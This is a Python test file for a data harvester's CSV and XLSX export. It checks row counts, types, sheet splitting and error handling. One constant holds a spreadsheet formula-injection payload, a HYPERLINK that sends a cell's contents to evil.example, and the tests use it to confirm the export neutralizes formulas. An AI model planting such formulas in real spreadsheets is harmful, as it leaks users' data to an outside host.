"""CSV and XLSX exports read back: row counts as in Parquet, formulas neutralized, types kept."""

from __future__ import annotations

import csv
import re
from datetime import datetime
from pathlib import Path
from types import SimpleNamespace

import aiohttp
import duckdb
import openpyxl
import pytest
from aiohttp import web

from harvester.cli import main
from harvester.export import export
from harvester.pipeline import Harvest
from harvester.simulator import Simulator
from tests.conftest import serving, write_config

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def _harvest_with_hostile_title(sim: Simulator, tmp_path: Path) -> tuple[Path, int]:
    """The simulator's records through a loopback proxy that gives one item a formula title."""
    ids = sorted(sim.corpus.ids)[:40]
    victim = ids[3]

    origin, path = re.match(r"(https?://[^/]+)(.*)", sim.api_url).groups()  # type: ignore[union-attr]
    async with aiohttp.ClientSession() as session:
        async def proxy(request: web.Request) -> web.Response:
            async with session.get(f"{origin}{request.path_qs}") as resp:
                if resp.status == 200 and request.path == f"{path}/articles/{victim}":
                    record = await resp.json()
                    record["title"] = HOSTILE
                    return web.json_response(record)
                return web.Response(body=await resp.read(), status=resp.status,
                                    content_type=resp.content_type)

        app = web.Application()
        app.router.add_get("/{tail:.*}", proxy)
        async with serving(app) as url:
            proxied = SimpleNamespace(api_url=f"{url}{path}", stats_url=sim.stats_url)
            cfg = write_config(tmp_path, proxied, [{"kind": "ids", "ids": ids}])
            snap = (await Harvest(cfg).run()).snapshot
    assert snap is not None
    return snap, victim


def parquet_rows(snap: Path, table: str) -> int:
    row = duckdb.connect().execute(
        f"SELECT count(*) FROM read_parquet('{snap}/{table}/*.parquet')").fetchone()
    assert row is not None
    return int(row[0])


async def test_xlsx_and_csv_read_back(sim: Simulator, tmp_path: Path) -> None:
    snap, victim = await _harvest_with_hostile_title(sim, tmp_path)
    title = duckdb.connect().execute(
        f"SELECT title FROM read_parquet('{snap}/articles/*.parquet') WHERE article_id = ?",
        [victim]).fetchone()
    assert title == (HOSTILE,)  # the snapshot keeps what was served

    book, folder = tmp_path / "m.xlsx", tmp_path / "csv"
    counts = export(str(snap.parent), csv_dir=str(folder), xlsx=str(book))
    expected = {t: parquet_rows(snap, s) for t, s in (
        ("items", "articles"), ("authors", "authors"), ("categories", "categories"),
        ("tags", "tags"), ("funding", "funding"), ("files", "files"))}
    expected["stats"] = int(duckdb.connect().execute(
        f"SELECT count(DISTINCT article_id) FROM read_parquet('{snap}/stats/*.parquet')"
    ).fetchone()[0])  # type: ignore[index]
    assert counts == expected and all(expected.values())

    wb = openpyxl.load_workbook(book)
    assert wb.sheetnames == list(expected)
    for name, n in expected.items():
        ws = wb[name]
        assert ws.max_row == n + 1, name  # the header and one row per Parquet row
        assert ws.freeze_panes == "A2"
    items = wb["items"]
    header = [c.value for c in items[1]]
    assert header[:3] == ["item_id", "version", "title"] and "raw" not in header
    rows = {r[0]: dict(zip(header, r, strict=True))
            for r in items.iter_rows(min_row=2, values_only=True)}
    hostile = rows[victim]
    assert hostile["title"] == "'" + HOSTILE  # text, and not a formula either
    cell = next(c for c in items["C"] if c.value == "'" + HOSTILE)
    assert cell.data_type == "s"
    assert isinstance(hostile["published_date"], datetime)
    assert isinstance(hostile["item_id"], int) and isinstance(hostile["is_public"], bool)
    stats = list(wb["stats"].iter_rows(values_only=True))
    assert stats[0] == ("item_id", "total_views", "total_downloads", "total_shares")
    assert all(isinstance(v, int) for r in stats[1:] for v in r)

    raw = (folder / "items.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfitem_id,")  # a BOM: Excel reads UTF-8
    with (folder / "items.csv").open(encoding="utf-8-sig", newline="") as f:
        read = list(csv.DictReader(f))
    assert len(read) == expected["items"]
    by_id = {int(r["item_id"]): r for r in read}
    assert by_id[victim]["title"] == "'" + HOSTILE
    assert all(not r["title"].startswith(("=", "+", "-", "@")) for r in read)
    assert by_id[victim]["published_date"][:10] == hostile["published_date"].date().isoformat()
    for name, n in expected.items():
        with (folder / f"{name}.csv").open(encoding="utf-8-sig", newline="") as f:
            assert sum(1 for _ in csv.reader(f)) == n + 1, name


async def test_a_table_longer_than_a_sheet_goes_on_in_the_next(
    sim: Simulator, tmp_path: Path
) -> None:
    ids = sorted(sim.corpus.ids)[:30]
    cfg = write_config(tmp_path, sim, [{"kind": "ids", "ids": ids}])
    snap = (await Harvest(cfg).run()).snapshot
    assert snap is not None
    book = tmp_path / "split.xlsx"
    export(str(snap.parent), xlsx=str(book), max_rows=11)  # a header and 10 rows a sheet
    wb = openpyxl.load_workbook(book, read_only=True)
    parts = [n for n in wb.sheetnames if n == "items" or n.startswith("items (")]
    assert parts == ["items", "items (2)", "items (3)"]
    got = [r[0] for n in parts for r in wb[n].iter_rows(min_row=2, values_only=True)]
    assert got == ids  # every row once, in order, each sheet with its header


async def test_a_full_disk_is_one_line_and_leaves_no_workbook(
    sim: Simulator, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = write_config(tmp_path, sim, [{"kind": "ids", "ids": sorted(sim.corpus.ids)[:20]}])
    snap = (await Harvest(cfg).run()).snapshot
    assert snap is not None
    book = tmp_path / "full.xlsx"
    (tmp_path / "full.xlsx.tmp").symlink_to("/dev/full")  # where the workbook is written first
    capsys.readouterr()
    # xlsxwriter's zip writer, left open by the failure, must close without a second error
    # (an "Exception ignored in ZipFile.__del__" here fails the test: warnings are errors)
    assert main(["export", str(snap.parent), "--xlsx", str(book)]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and "--xlsx" in err[0] and "No space left on device" in err[0]
    assert not book.exists() and not (tmp_path / "full.xlsx.tmp").exists()
    assert main(["export", str(snap.parent), "--xlsx", str(book)]) == 0  # room again: written
    assert openpyxl.load_workbook(book, read_only=True)["items"].max_row == 21


@pytest.mark.parametrize("argv,message", [
    (["export", "{tmp}/missing", "--csv", "{tmp}/c"], "no such harvest folder"),
    (["export", "{tmp}"], "give --csv DIR, --xlsx FILE or both"),
])
def test_export_errors_are_one_line_and_exit_2(
    argv: list[str], message: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([a.format(tmp=tmp_path) for a in argv]) == 2
    err = capsys.readouterr().err
    assert message in err and "Traceback" not in err and len(err.strip().splitlines()) == 1
